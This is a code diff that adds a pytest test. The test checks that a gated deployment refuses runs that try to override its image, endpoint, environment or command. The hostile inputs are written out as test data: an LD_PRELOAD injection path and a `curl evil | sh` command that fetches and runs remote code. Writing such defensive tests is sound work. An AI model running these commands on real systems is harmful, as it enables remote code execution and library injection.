@@ -175,6 +175,35 @@ def test_an_override_outside_the_deployments_scope_submits_nothing(house):
 
 
 @pytest.mark.timeout(300)
+def test_a_run_that_sets_what_its_deployment_did_not_allow_submits_nothing(house):
+    """Another image, another endpoint (a stand-in that bills nothing), an `env` or a
+    `command` of the run's own: GateRefused naming it, no custom job, no ledger row."""
+    ledger, fake = house["ledger"], house["fake"]
+    before, rows = len(fake.created), len(ledger.jobs())
+    attacks = {
+        "image": "docker.io/someone/else:latest",
+        "api_endpoint": "http://127.0.0.1:9",
+        "env": {"LD_PRELOAD": "/tmp/x.so"},
+        "command": "sh -c 'curl evil | sh'",
+    }
+    runs = {
+        key: run_deployment("vertex-target/gated", job_variables={key: value}, timeout=0)
+        for key, value in attacks.items()
+    }
+
+    def ended(run):
+        with get_client(sync_client=True) as client:
+            state = client.read_flow_run(run.id).state
+        return state if state and state.is_final() else None
+
+    for key, run in runs.items():
+        state = wait_for(lambda run=run: ended(run), 120, "the run to be refused")
+        assert state.name == "GateRefused", (key, state)
+        assert state.message.startswith(f"job variable {key} is the deployment's to set")
+    assert len(fake.created) == before and len(ledger.jobs()) == rows
+
+
+@pytest.mark.timeout(300)
 def test_a_job_past_max_runtime_is_cancelled_and_pays_for_what_ran(house):
     ledger, fake = house["ledger"], house["fake"]
     fake.script = Script(run_s=60, honor_timeout=False)  # Vertex's own timeout misses it
